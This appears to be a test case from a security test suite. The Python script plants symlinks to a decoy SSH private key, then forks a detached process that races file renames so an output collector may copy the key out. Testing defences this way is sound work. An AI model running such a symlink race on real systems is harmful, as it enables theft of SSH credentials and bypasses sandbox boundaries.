from attack import *

os.mkdir(out("tree"))
with open(out("result"), "w") as file:
    file.write("ordinary")
os.mkdir(out("tree/part"))
with open(out("tree/part/id_ed25519"), "w") as file:
    file.write("ordinary")
os.symlink(lures["sshKey"], out("file-link"))
os.symlink(os.path.dirname(lures["sshKey"]), out("folder-link"))
if os.fork() == 0:
    os.setsid()
    for number in range(3):
        os.close(number)
    end = time.monotonic() + 15
    while time.monotonic() < end:
        for name, link in (("result", "file-link"), ("tree/part", "folder-link")):
            try:
                os.rename(out(name), out("aside"))
                os.rename(out(link), out(name))
                os.rename(out(name), out(link))
                os.rename(out("aside"), out(name))
            except OSError:
                pass
os._exit(0)
